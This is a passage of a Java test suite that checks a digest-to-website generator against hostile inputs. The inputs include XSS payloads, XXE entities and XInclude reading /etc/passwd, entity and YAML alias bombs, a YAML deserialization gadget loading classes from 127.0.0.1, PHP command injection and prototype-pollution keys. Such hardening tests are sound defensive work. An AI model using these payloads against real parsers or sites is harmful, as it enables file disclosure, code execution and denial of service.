                "surrogate.md", concat(bytes("---\ntitle: X"), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        bytes("\n---\n## A Paper\n\n" + ABSTRACT + "\n"))));
        cases.add(Case.error("a lone continuation byte in a Markdown note", "continuation.md", 5, "not valid UTF-8",
                "continuation.md", concat(bytes("## A Paper\n\n" + ABSTRACT + "\n\n> note "), new byte[] {(byte) 0x80},
                        bytes("\n"))));
        cases.add(Case.error("0xFF inside a JSON string", "ff.json", 3, "not valid JSON", "ff.json",
                concat(bytes("[\n{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT + "\"},\n{\"title\": \"B"),
                        new byte[] {(byte) 0xFF}, bytes("\", \"summary\": \"" + ABSTRACT_2 + "\"}\n]\n"))));
        cases.add(Case.error("a multi-byte sequence cut at the end of a JSON Lines file", "cut.jsonl", 2, "not valid UTF-8",
                "cut.jsonl", concat(bytes("{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n{\"title\": \"B"),
                        new byte[] {(byte) 0xE2, (byte) 0x82})));
        cases.add(Case.error("invalid bytes in an Atom title", "latin1.atom", 3, "not valid UTF-8", "latin1.atom",
                concat(bytes(FEED + "<entry><title>Caf"), new byte[] {(byte) 0xE9}, bytes("</title><summary>" + ABSTRACT
                        + "</summary></entry></feed>\n"))));
    }

    // ---------------------------------------------------------------------------------------------
    // the same arXiv id with conflicting data, within a file and across files

    private static void duplicates(List<Case> cases) {
        cases.add(Case.site("same arXiv id, different titles and abstracts, within one JSON Lines file", 1, "dupes.jsonl",
                "{\"id\": \"2501.00010\", \"title\": \"First Title\", \"abstract\": \"" + ABSTRACT + "\"}\n"
                        + "{\"id\": \"2501.00010v2\", \"title\": \"<script>alert(1)</script> Second Title\", \"abstract\": \""
                        + LONGER_ABSTRACT + "\"}\n{\"id\": \"arXiv:2501.00010\", \"title\": \"Third\", \"abstract\": \""
                        + ABSTRACT_2 + "\"}\n").then(site -> assertPaperPage(site, "First Title", LONGER_ABSTRACT)));
        // two titles and no author in common under one id: one of the ids is wrong, and merging would show one paper's
        // authors under the other's title; the Atom entry, with no authors, is the Markdown paper
        cases.add(Case.error("same arXiv id, different titles, abstracts and authors, across Markdown, JSON and Atom",
                "b.json", 1, "arXiv id 2501.00011 is also given to \"Markdown Title\" (a.md:1), a different paper",
                "a.md", "## Markdown Title\n\n- arxiv: 2501.00011\n- authors: A, B\n\n" + ABSTRACT + "\n",
                "b.json", "[{\"paper\": {\"id\": \"2501.00011\", \"title\": \"JSON Title\", \"summary\": \"" + LONGER_ABSTRACT
                        + "\", \"authors\": [{\"name\": \"C\"}, {\"name\": \"D\"}, {\"name\": \"E\"}]}}]",
                "c.atom", FEED + "<entry><id>http://arxiv.org/abs/2501.00011v3</id><title>Atom &lt;b&gt;Title&lt;/b&gt;</title>"
                        + "<summary>" + ABSTRACT_2 + "</summary></entry></feed>\n")
                .then(site -> assertEquals(1, paperPagesIn(site).size(), "the Atom entry's title leads to it: "
                        + filesIn(site, "paper"))));
        cases.add(Case.site("same title, different arXiv ids", 2, "same-title.jsonl",
                "{\"id\": \"2501.00012\", \"title\": \"Same Title\", \"abstract\": \"" + ABSTRACT + "\"}\n"
                        + "{\"id\": \"2501.00013\", \"title\": \"same title!\", \"abstract\": \"" + ABSTRACT_2 + "\"}\n")
                .then(site -> {
                    // neither has the title's address, which lists both, linked to their own pages
                    Document shared = SiteFiles.parse(site, "paper/same-title.html");
                    List<String> links = shared.select("main .paper-item-title a").eachAttr("href");
                    assertEquals(2, links.size(), shared.text());
                    links.forEach(l -> assertTrue(Files.isRegularFile(site.resolve("paper").resolve(l)), l));
                }));
        cases.add(Case.site("one paper written as several id forms and versions", 1, "ids.md",
                "## Paper V1\n\n- arxiv: 2501.00014v1\n\n" + ABSTRACT + "\n\n## Paper V2\n\n- arxiv: arXiv:2501.00014v2\n\n"
                        + ABSTRACT + "\n\n## Paper Url\n\n- paper: https://arxiv.org/abs/2501.00014\n\n" + ABSTRACT + "\n\n"
                        + "## Paper Pdf\n\n- pdf: https://arxiv.org/pdf/2501.00014v3.pdf\n\n" + ABSTRACT + "\n"));
        cases.add(Case.site("same title in five formats with conflicting metadata", 1,
                "f.txt", "Conflicted Paper\n\n" + ABSTRACT + "\n",
                "f.md", "## conflicted paper\n\n- authors: A\n- date: 2024-01-01\n- upvotes: 3\n- tags: x\n\n" + ABSTRACT + "\n",
                "f.json", "[{\"title\": \"CONFLICTED PAPER\", \"summary\": \"" + ABSTRACT_2 + "\", \"authors\": [\"B\", \"C\"],"
                        + " \"publishedAt\": \"2025-02-02\", \"upvotes\": 99, \"tags\": [\"y\"]}]",
                "f.jsonl", "{\"title\": \"Conflicted -- Paper\", \"abstract\": \"" + LONGER_ABSTRACT + "\", \"authors\": \"D, E and F\","
                        + " \"update_date\": \"1999-12-31\"}\n",
                "f.atom", FEED + "<entry><title>Conflicted: Paper</title><summary>" + ABSTRACT + "...</summary>"
                        + "<published>2030-01-01T00:00:00Z</published></entry></feed>\n"));
    }

    // ---------------------------------------------------------------------------------------------
    // XML entity expansion, external entities, DTDs and other XML tricks

    private static void xmlTricks(List<Case> cases) {
        StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE feed [\n<!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10))
                    .append("\">\n");
        }
        laughs.append("]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&lol9;</title><summary>")
                .append(ABSTRACT).append("</summary></entry></feed>\n");
        cases.add(Case.error("billion laughs", "laughs.atom", 14, "not a well-formed Atom feed", "laughs.atom",
                laughs.toString()));
        cases.add(Case.error("quadratic blowup: one large entity used many times", "blowup.atom", 3,
                "not a well-formed Atom feed", "blowup.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [<!ENTITY a \""
                        + "x".repeat(100_000) + "\">]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>"
                        + "&a;".repeat(10_000) + "</title><summary>" + ABSTRACT + "</summary></entry></feed>\n"));
        cases.add(Case.error("an external entity naming a local file", "secret.atom", 3, "not a well-formed Atom feed",
                "secret.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [<!ENTITY s SYSTEM \"" + DIGESTS + "secret.dat\">]>\n"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&s;</title><summary>" + ABSTRACT
                        + "</summary></entry></feed>\n",
                "secret.dat", "TOP-SECRET-CONTENT")
                .then(site -> assertNowhere(site, "TOP-SECRET-CONTENT")));
        cases.add(Case.error("an external DTD whose entity the title uses", "dtd.atom", 3, "not a well-formed Atom feed",
                "dtd.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed SYSTEM \"" + DIGESTS + "evil.dtd\">\n"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&e;</title><summary>" + ABSTRACT
                        + "</summary></entry></feed>\n",
                "evil.dtd", "<!ENTITY e \"FROM-THE-DTD\">")
                .then(site -> assertNowhere(site, "FROM-THE-DTD")));
        cases.add(Case.site("an external DTD at an unreachable address is never fetched", 1, "remote-dtd.atom",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE feed SYSTEM \"http://127.0.0.1:9/evil.dtd\">\n"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>A Paper</title><summary>" + ABSTRACT
                        + "</summary></entry></feed>\n"));
        cases.add(Case.error("parameter entities reaching out for a local file", "param.atom", 6, "not a well-formed Atom feed",
                "param.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [\n<!ENTITY % p SYSTEM \"file:///etc/passwd\">\n%p;\n]>\n"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&x;</title><summary>" + ABSTRACT
                        + "</summary></entry></feed>\n"));
        cases.add(Case.error("XInclude inside a summary", "xinclude.atom", 4, "not a well-formed Atom feed", "xinclude.atom",
                FEED + "<entry><title>A Paper</title>\n<summary xmlns:xi=\"http://www.w3.org/2001/XInclude\">" + ABSTRACT
                        + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></summary></entry></feed>\n"));
        cases.add(Case.error("a control character inside a DTD", "control-dtd.atom", 2, "not a well-formed Atom feed",
                "control-dtd.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [\u0001]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\">"
                        + "<entry><title>A Paper</title><summary>" + ABSTRACT + "</summary></entry></feed>\n"));
        cases.add(Case.site("processing instructions and comments with scripts", 1, "pi.atom",
                "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>\n"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><!-- <script>alert(2)</script> --><entry>"
                        + "<title>A <?php system('id'); ?>Paper</title><summary>" + ABSTRACT + "<!-- x --></summary></entry></feed>\n"));
        cases.add(Case.site("CDATA sections that try to close the element", 1, "cdata.atom", FEED
                + "<entry><title><![CDATA[A ]]]]><![CDATA[> Paper]]></title><summary><![CDATA[</summary><script>alert(1)</script> "
                + ABSTRACT + "]]></summary></entry></feed>\n")
                .then(site -> assertPaperPage(site, "A ]]> Paper", "</summary><script>alert(1)</script> " + ABSTRACT)));
        cases.add(Case.site(".xml files that are not Atom feeds are left alone", 0,
                "rss.xml", "<?xml version=\"1.0\"?><rss><channel><item><title><![CDATA[<script>alert(1)</script>]]></title>"
                        + "</item></channel></rss>",
                "page.xml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body onload=\"alert(2)\"><script>alert(3)</script>"
                        + "</body></html>"));
        // every digest is UTF-8, whatever an XML declaration names: these bytes are (a UTF-16 file is refused)
        cases.add(Case.site("an Atom feed in UTF-8 declared as UTF-16 is read as UTF-8", 1, "utf16.atom",
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + FEED.substring(FEED.indexOf('\n') + 1)
                        + "<entry><title>A Paper</title><summary>" + ABSTRACT + "</summary></entry></feed>\n"));
    }

    // ---------------------------------------------------------------------------------------------
    // JSON escapes, keys and shapes

    private static void jsonTricks(List<Case> cases) {
        cases.add(Case.site("escaped markup, control characters and noncharacters in JSON strings", 1, "escapes.json",
                "[{\"title\": \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\u0000\\u0007 \\ufffe\\uffff \\u2028x\","
                        + " \"summary\": \"" + ABSTRACT + " \\u001b[31m \\u0085 \\u202e\","
                        + " \"authors\": [{\"name\": \"\\u0000\\ufeffEve\"}], \"venue\": \"\\uffff\"}]")
                // the override left open at the summary's end is closed there, not left to turn what follows it around
                .then(site -> assertPaperPage(site, "<script>alert(1)</script> \uFFFD\uFFFD x", ABSTRACT + " [31m \u202E\u202C")));
        cases.add(Case.site("lone surrogates escaped in JSON strings", 1, "surrogates.json",
                "[{\"title\": \"Lone \\ud800 High \\udfff Low\", \"summary\": \"" + ABSTRACT + " \\udbff\","
                        + " \"authors\": [{\"name\": \"\\ud83d\"}], \"tags\": [\"\\udc00\"],"
                        + " \"githubRepo\": \"https://github.com/a/\\ud800\", \"venue\": \"\\udfff\","
                        + " \"upvotes\": \"\\ud800\\u0007\\uffff\", \"id\": \"\\udbff\\u0000\"}]")
                .then(site -> assertPaperPage(site, "Lone \uFFFD High \uFFFD Low", ABSTRACT + " \uFFFD")));
        cases.add(Case.site("noncharacters and lone surrogates in front matter", 1, "front-escapes.md", """
                ---
                title: "Week \\uFFFF \\uFFFE"
                tags: ["\\uFFFE tag", "x\\uFFFF", "\\ud800"]
                notes: "Note \\uFFFF"
                ---
                ## A Paper

                """ + ABSTRACT + "\n"));
        cases.add(Case.site("duplicate keys with conflicting titles", 1, "keys.json",
                "[{\"title\": \"First\", \"title\": \"<script>alert(1)</script>\", \"summary\": \"" + ABSTRACT + "\","
                        + " \"summary\": \"" + ABSTRACT_2 + "\"}]"));
        cases.add(Case.site("__proto__, constructor and empty keys", 1, "proto.jsonl",
                "{\"__proto__\": {\"polluted\": \"<script>\"}, \"constructor\": \"<b>\", \"\": \"<i>\", \"title\": \"A Paper\","
                        + " \"abstract\": \"" + ABSTRACT + "\", \"prototype\": \"javascript:alert(1)\"}\n"));
        cases.add(Case.error("a JSON object without a list of papers", "object.json", 1, "expected a JSON array",
                "object.json", "{\"title\": \"<script>alert(1)</script>\", \"summary\": \"" + ABSTRACT + "\"}"));
        cases.add(Case.site("a YAML alias bomb in front matter", 1, "aliases.md", """
                ---
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                tags: *f
                ---
                ## A Paper

                """ + ABSTRACT + "\n"));
        cases.add(Case.site("YAML tags that would build Java objects", 1, "yaml-tags.md", """
                ---
                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:9/"]]]]
                notes: !!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
                tags: !!set {"<script>": null}
                ---
                ## A Paper

                """ + ABSTRACT + "\n").then(HostileDigestCorpusTest::everyTagHasAName));
        cases.add(Case.site("blank tags in front matter, in an entry and in JSON", 2, "blank-tags.md",
                "---\ntags: \" \"\n---\n## A Paper\n\n- tags: \" , ,\"\n\n" + ABSTRACT + "\n",
                "blank-tags.json", "[{\"title\": \"Another Paper\", \"summary\": \"" + ABSTRACT_2 + "\", \"tags\": [\" \", \"\"]}]")
                .then(HostileDigestCorpusTest::everyTagHasAName));
    }

    // ---------------------------------------------------------------------------------------------
    // thousands of tags on one paper: each tag page lists the paper with all its tags, so the site grew as the
    // square of their number. The first few are kept, with a warning naming the entry

    private static void manyTags(List<Case> cases) {
        String tags = java.util.stream.IntStream.range(0, 3000).mapToObj(i -> "topic " + i).collect(Collectors.joining(", "));
        String jsonTags = java.util.stream.IntStream.range(0, 3000).mapToObj(i -> "\"topic " + i + "\"")
                .collect(Collectors.joining(", "));
        Duration bound = Duration.ofSeconds(60);
        cases.add(Case.site("3,000 written tags on one Markdown paper", 2, "many-tags.md",
                "## A Paper With Many Tags\n\n- tags: " + tags + "\n\n" + ABSTRACT + "\n\n## Another Paper\n\n- tags: topic 1\n\n"
                        + ABSTRACT_2 + "\n").within(bound).then(HostileDigestCorpusTest::boundedTags));
        cases.add(Case.site("3,000 written tags on one JSON paper and 3,000 on the whole digest", 3, "many-tags.json",
                "[{\"title\": \"A Paper With Many Tags\", \"summary\": \"" + ABSTRACT + "\", \"tags\": [" + jsonTags + "]},"
                        + " {\"title\": \"Another Paper\", \"summary\": \"" + ABSTRACT_2 + "\"}]",
                "digest-tags.md", "---\ntags: [" + tags + "]\n---\n## A Third Paper\n\n" + ABSTRACT + " Third.\n")
                .within(bound).then(HostileDigestCorpusTest::boundedTags));
    }

    // ---------------------------------------------------------------------------------------------
    // Org mode reading notes: markup and links that run code, nesting and repetition that exhaust the stack or the clock

    private static void orgNotes(List<Case> cases) {
        String paper = "* [[https://arxiv.org/abs/2501.00001][A Paper]]\n  :PROPERTIES:\n  :ABSTRACT: " + ABSTRACT
                + "\n  :END:\n";
        cases.add(Case.site("script, event handlers and javascript: links in every part of an Org digest", 2, "markup.org",
                "#+TITLE: <script>alert(1)</script> Week\n#+FILETAGS: :<img/onerror=alert(2)>:\n\n<b onclick=alert(3)>intro</b>\n"
                        + "- [[https://arxiv.org/abs/2501.00002][<script>alert(13)</script> Title Two]] — <a href=x>n</a>\n"
                        + "* <script>alert(4)</script> Section :x<y:\n"
                        + "** <img src=x onerror=alert(5)> Title One\n   :PROPERTIES:\n   :URL: javascript:alert(6)\n"
                        + "   :ARXIV: 2501.00001\n   :CODE: [[javascript:alert(7)][code]]\n   :AUTHOR: <svg/onload=alert(8)>\n"
                        + "   :END:\n   #+begin_quote\n   " + ABSTRACT + " <script>alert(9)</script>\n   #+end_quote\n"
                        + "   [[javascript:alert(10)][click]] [[data:text/html,<script>alert(11)</script>][x]] *<i>b</i>*\n"
                        + "   #+begin_export html\n   <script>alert(12)</script>\n   #+end_export\n"));
        String markers = "*/_+=~".repeat(2_000);
        cases.add(Case.site("10,000 nested emphasis markers and 10,000 unclosed links in an Org note", 1, "deep.org",
                paper + "  " + markers + "x" + new StringBuilder(markers).reverse() + "\n  " + "[[a][".repeat(10_000)
                        + "\n  " + "*a /b ".repeat(20_000) + "\n"));
        StringBuilder chain = new StringBuilder();
        for (int level = 1; level <= 2_000; level++) {
            chain.append("*".repeat(level)).append(" Section ").append(level).append('\n');
        }
        cases.add(Case.site("an Org outline 2,000 levels deep", 1, "chain.org", chain + "*".repeat(2_001)
                + " [[https://arxiv.org/abs/2501.00001][A Paper]]\n"));
        cases.add(Case.site("10,000 drawers never closed and 10,000 blocks never opened in an Org note", 1, "drawers.org",
                paper + "  :LOGBOOK:\n".repeat(10_000) + "  #+end_quote\n".repeat(10_000)));
        String blanks = " ".repeat(100_000);
        cases.add(Case.site("runs of 100,000 blanks in an Org title, heading, property, item and citation", 1,
                "blanks.org", "#+TITLE: a" + blanks + "b\n* A" + blanks + "Paper" + blanks + "\n  :PROPERTIES:\n"
                        + "  :URL: https://arxiv.org/abs/2501.00001" + blanks + "\n  :ABSTRACT: " + ABSTRACT + "\n  :END:\n"
                        + "  - a" + blanks + ":: x" + blanks + "\n  " + "[cite:".repeat(10_000) + "\n"));
        cases.add(Case.error("an Org property drawer never closed", "open.org", 2, "not closed", "open.org",
                "* A Paper\n  :PROPERTIES:\n  :ARXIV: 2501.00001\n" + ("  :KEY: value\n").repeat(10_000)));
    }

    /** At most the first tags a paper was given have pages, and the site stays the size of a small site. */
    private static void boundedTags(Path site) {
        int tagPages = filesIn(site, "tag").size();
        assertTrue(tagPages <= 2 * io.github.paperdigest.model.WrittenTags.MAX + 16, "tag pages: " + tagPages);
        long bytes = SiteFiles.all(site).values().stream().mapToLong(b -> b.length).sum();
        assertTrue(bytes < 8L << 20, "the site is " + (bytes >> 20) + " MB");
        org.jsoup.nodes.Document paper = SiteFiles.parse(site, "paper/a-paper-with-many-tags.html");
        assertTrue(paper.select("a[href*=tag/topic-0]").size() > 0, "the first tags are kept");
        assertTrue(paper.select("a[href*=tag/topic-2999]").isEmpty(), "the last are not");
    }

    // ---------------------------------------------------------------------------------------------


    // ---------------------------------------------------------------------------------------------
    // generated Markdown digests: tables, linked headings, link lists

    private static final String TABLE_HEAD = "| **Title** | **Date** | **Abstract** | **Comment** |\n| --- | --- | --- | --- |\n";

    private static String row(String title, String url, String abstractText) {
        return "| **[" + title + "](" + url + ")** | 2025-09-01 | <details><summary>Show</summary><p>" + abstractText
                + "</p></details> |  |\n";
    }

    private static void generatedMarkdown(List<Case> cases) {
        cases.add(Case.site("script and event handlers in the cells of a table digest", 1, "table-markup.md",
                "## <script>alert(1)</script> Keyword\n" + TABLE_HEAD
                        + row("<img src=x onerror=alert(2)> Table Title", "https://arxiv.org/abs/2509.01395",
                                "<script>alert(3)</script> " + ABSTRACT))
                .then(site -> assertEquals("<script>alert(1)</script> Keyword", SiteFiles.parse(site,
                        "digest/table-markup.html").selectFirst(".digest-section-title").wholeText())));
        cases.add(Case.site("javascript: links in a table's title and code cells", 1, "table-links.md",
                "| Title | Abstract | Code |\n| --- | --- | --- |\n| [Linked Title](javascript:alert(1)) | " + ABSTRACT
                        + " | [code](javascript:alert(2)) |\n"));
        cases.add(Case.error("an unescaped pipe that breaks a table row", "pipe.md", 3, "write a '|' inside a cell as '\\|'",
                "pipe.md", "| Title | Abstract |\n| --- | --- |\n| Plain | title | " + ABSTRACT + " |\n"));
        cases.add(Case.error("a table that links to papers without a column of titles", "untitled.md", 3,
                "no column of titles", "untitled.md", "## SLAM\n\n| Date | Link |\n| --- | --- |\n"
                        + "| 2025-09-01 | [2509.01395](https://arxiv.org/abs/2509.01395) |\n"));
        cases.add(Case.site("wrapped rows, empty cells, null code links and duplicated rows", 2, "ugly-table.md",
                "|Publish Date|Title|Authors|PDF|Code|\n|---|---|---|---|---|\n"
                        + "|**2025-09-01**|**First Ugly Row**|A. Author et.al.|[2509.01395](http://arxiv.org/abs/2509.01395)|null|\n"
                        + "|**2025-09-01**|**First Ugly Row**|A. Author et.al.|[2509.01395](http://arxiv.org/abs/2509.01395)|null|\n"
                        + "||||||\n|**2025-09-02**|**Second Row,\nWrapped**|B. Author|[2509.01016](http://arxiv.org/abs/2509.01016)||\n"));
        cases.add(Case.site("one table row repeated 5,000 times", 1, "rows.md",
                TABLE_HEAD + row("A Repeated Row", "https://arxiv.org/abs/2509.01395", ABSTRACT).repeat(5_000))
                .within(Duration.ofSeconds(60)));
        cases.add(Case.error("a table row of 50,000 cells", "wide.md", 3, "cells but the header 2",
                "wide.md", "| Title | Abstract |\n| --- | --- |\n| x" + " | y".repeat(50_000) + " |\n"));
        cases.add(Case.error("papers linked from prose that no layout explains", "prose.md", 3,
                "arXiv papers that were not read as papers", "prose.md", "# Reading list\n\nThis week "
                        + "[a](https://arxiv.org/abs/2509.01395), [b](https://arxiv.org/abs/2509.01016),"
                        + " [c](https://arxiv.org/abs/2509.00184) and [d](https://arxiv.org/abs/2509.01442).\n"));
        cases.add(Case.site("details nested a thousand deep in a table cell", 1, "nested-details.md",
                TABLE_HEAD + "| **[Nested Details](https://arxiv.org/abs/2509.01395)** | 2025-09-01 | "
                        + "<details>".repeat(1_000) + ABSTRACT + "</details>".repeat(1_000) + " |  |\n"));
        cases.add(Case.site("a linked heading whose link runs code is no paper", 0, "js-heading.md",
                "### [1] [Not A Paper](javascript:alert(1))\n\nAbstract: " + ABSTRACT + "\n"));
        cases.add(Case.site("a linked heading with a Chinese TL;DR and markup in labelled lines", 1, "linked.md",
                "## <b>Section</b>\n### [1] [Linked <script>alert(1)</script>](https://arxiv.org/abs/2509.01395)\n"
                        + "*<img src=x onerror=alert(2)>, B. Author*\n\nMain category: cs.AI\n\nTL;DR: 中文<script>alert(3)</script>\n\n"
                        + "Abstract: " + ABSTRACT + "\n")
                .then(site -> assertPaperPage(site, "Linked <script>alert(1)</script>", ABSTRACT)));
        cases.add(Case.site("a linked heading without an abstract links out", 1, "no-abstract.md",
                "## Papers\n### [1] [Only A Title](https://arxiv.org/abs/2509.01016)\n*A. Author*\n")
                .then(site -> {
                    Document page = SiteFiles.parse(site, "paper/only-a-title.html");
                    assertEquals("The digest gave no abstract. Read the paper at arxiv.org.", page.selectFirst(".no-abstract").text());
                    assertEquals("https://arxiv.org/abs/2509.01016", page.selectFirst(".no-abstract a").attr("href"));
                }));
        cases.add(Case.site("10,000 labelled lines under one linked heading", 1, "labels.md",
                "### [1] [Many Labels](https://arxiv.org/abs/2509.01395)\n\n" + "TL;DR: again\n".repeat(10_000)
                        + "\nAbstract: " + ABSTRACT + "\n").within(Duration.ofSeconds(60)));
        cases.add(Case.site("script and javascript: links in an awesome list", 2, "awesome.md",
                "## Papers\n\n- [Listed <script>alert(1)</script>](https://arxiv.org/abs/2509.01395) - <img src=x"
                        + " onerror=alert(2)>, B. Author. Venue, 2025. [[code](javascript:alert(3))]\n"
                        + "- **Bold Listed Title** [[paper](https://arxiv.org/abs/2509.01016)]\n"
                        + "- [Not a paper](javascript:alert(4))\n"));
        StringBuilder longList = new StringBuilder("## Papers\n\n");
        for (int i = 0; i < 300; i++) {
            longList.append("- [Listed Paper Number ").append(i).append("](https://arxiv.org/abs/2509.")
                    .append(String.format(java.util.Locale.ROOT, "%05d", i + 1)).append(") - A. Author. Venue, 2025.\n");
        }
        cases.add(Case.site("an awesome list of 300 papers", 300, "long-list.md", longList.toString())
                .within(Duration.ofSeconds(90)));
        cases.add(Case.site("a list nested a hundred deep under a paper item", 1, "nested-list.md", "## Papers\n\n"
                + "- [Nested List Paper](https://arxiv.org/abs/2509.01395) - A. Author. Venue, 2025.\n"
                + java.util.stream.IntStream.range(1, 100).mapToObj(i -> "  ".repeat(i) + "- level " + i + "\n")
                        .collect(Collectors.joining())));
    }

    // ---------------------------------------------------------------------------------------------
    // reference managers: BibTeX, CSL JSON, RIS

    private static void referenceManagers(List<Case> cases) {
        cases.add(Case.error("a BibTeX entry with an unbalanced brace", "unbalanced.bib", 6, "that is never closed",
                "unbalanced.bib", "@article{ok,\n  title = {Fine},\n  doi = {10.1000/ok}\n}\n@article{bad,\n  title = {Open {brace},\n"
                        + "  doi = {10.1000/bad}\n}\n"));
        cases.add(Case.error("BibTeX braces nested 10,000 deep", "deep.bib", 2, "nests braces deeper than",
                "deep.bib", "@article{deep,\n  title = " + "{".repeat(10_000) + "x" + "}".repeat(10_000) + "\n}\n"));
        cases.add(Case.error("a BibTeX syntax error", "syntax.bib", 3, "not valid BibTeX",
                "syntax.bib", "@article{a,\n  title = {A Title}\n  doi = {10.1000/a}\n}\n"));
        cases.add(Case.site("markup and TeX in BibTeX fields, javascript: urls", 1, "markup.bib",
                "@article{m,\n  title = {\\textbf{<script>alert(1)</script>} {\\\"U}ber Titles},\n"
                        + "  author = {<img src=x onerror=alert(2)> and M{\\\"u}ller, J{\\'e}r{\\^o}me},\n"
                        + "  url = {javascript:alert(3)},\n  doi = {10.1000/markup},\n  abstract = {" + ABSTRACT + "}\n}\n")
                .then(site -> assertPaperPage(site, "<script>alert(1)</script> Über Titles", ABSTRACT)));
        cases.add(Case.site("undefined @string macros and a missing cross-reference", 1, "macros.bib",
                "@article{m,\n  title = {Macro Paper},\n  journal = undefinedmacro,\n  crossref = {nowhere},\n"
                        + "  doi = {10.1000/macro}\n}\n"));
        cases.add(Case.site("cross-references that form a cycle", 2, "cycle.bib",
                "@article{a,\n  title = {Cycle A},\n  crossref = {b},\n  doi = {10.1000/a}\n}\n"
                        + "@article{b,\n  title = {Cycle B},\n  crossref = {a},\n  doi = {10.1000/b}\n}\n")
                .within(Duration.ofSeconds(30)));
        cases.add(Case.error("a BibTeX entry with neither title nor identifier", "empty-entry.bib", 1,
                "a paper without a title", "empty-entry.bib", "@misc{nothing,\n  note = {only a note}\n}\n"));
        cases.add(Case.error("bytes that are not UTF-8 in BibTeX", "latin1.bib", 2, "not valid UTF-8", "latin1.bib",
                concat(bytes("@article{x,\n  title = {Caf"), new byte[] {(byte) 0xE9}, bytes("},\n  doi = {10.1000/x}\n}\n"))));
        cases.add(Case.site("one BibTeX key repeated 2,000 times", 1, "repeated.bib",
                "@article{same,\n  title = {Same Key},\n  doi = {10.1000/same}\n}\n".repeat(2_000))
                .within(Duration.ofSeconds(60)));
        cases.add(Case.error("a CSL item without a title", "no-title.json", 3, "a CSL item without a title",
                "no-title.json", "[\n{\"type\": \"article\", \"title\": \"Titled\", \"DOI\": \"10.1000/t\"},\n"
                        + "{\"type\": \"article\", \"DOI\": \"10.1000/u\", \"issued\": {\"date-parts\": [[2025]]}}\n]\n"));
        cases.add(Case.site("markup, javascript: URLs and broken dates in CSL JSON", 1, "csl.json",
                "[{\"type\": \"article\", \"title\": \"<script>alert(1)</script> CSL\", \"URL\": \"javascript:alert(2)\","
                        + " \"number\": \"arXiv:2509.01442\", \"container-title\": \"<iframe src=x>\","
                        + " \"author\": [{\"literal\": \"<img src=x onerror=alert(3)>\"}, {\"family\": 5}],"
                        + " \"issued\": {\"date-parts\": [[\"x\", {}]]}, \"abstract\": \"" + ABSTRACT + "\"}]"));
        cases.add(Case.error("CSL JSON that is an object, not a list", "object.json", 1, "expected a JSON array of CSL items",
                "object.json", "{\"issued\": {\"date-parts\": [[2025]]}, \"title\": \"x\"}"));
        cases.add(Case.error("a RIS line outside any record", "outside.ris", 1, "a line outside a RIS record",
                "outside.ris", "stray text\nTY  - JOUR\nTI  - Title\nDO  - 10.1000/r\nER  - \n"));
        cases.add(Case.error("a RIS record never closed", "open.ris", 1, "without its closing 'ER  - '",
                "open.ris", "TY  - JOUR\nTI  - Open Record\nDO  - 10.1000/open\n"));
        cases.add(Case.site("markup and javascript: links in RIS", 1, "markup.ris",
                "TY  - JOUR\nTI  - <script>alert(1)</script> RIS\nAU  - <img src=x onerror=alert(2)>\nUR  - javascript:alert(3)\n"
                        + "DO  - 10.1000/ris\nAB  - " + ABSTRACT + "\nER  - \n"));
    }

    // ---------------------------------------------------------------------------------------------
    // spreadsheets (.csv, .tsv)

    private static void spreadsheets(List<Case> cases) {
        String title = "<script>alert(1)</script> Sheet, \"quoted\"";
        cases.add(Case.site("markup and javascript: links in a spreadsheet", 1, "sheet.csv",
                "Title,Authors,URL,Abstract,Notes,<b onmouseover=alert(2)>\n\"" + title.replace("\"", "\"\"")
                        + "\",<img src=x onerror=alert(3)>,javascript:alert(4),\"" + ABSTRACT
                        + "\",\"<a href=javascript:alert(5)>x</a>\",<svg onload=alert(6)>\n")
                .then(site -> assertPaperPage(site, title, ABSTRACT)));
        StringBuilder rows = new StringBuilder("Title,URL\n\"Never Closed,https://example.org/open\n");
        for (int i = 0; i < 100_000; i++) {
            rows.append("Row ").append(i).append(",https://example.org/").append(i).append('\n');
        }
        cases.add(Case.error("a quote never closed before 100,000 rows", "open.csv", 2, "a quoted cell opens here and"
                + " never closes", "open.csv", rows.toString()).within(Duration.ofSeconds(60)));
        cases.add(Case.error("a row of a million commas", "commas.csv", 2, "a row has 1000001 cells but the first row"
                + " names 2 columns", "commas.csv", "Title,URL\nA Paper" + ",".repeat(1_000_000) + "x\n")
                .within(Duration.ofSeconds(60)));
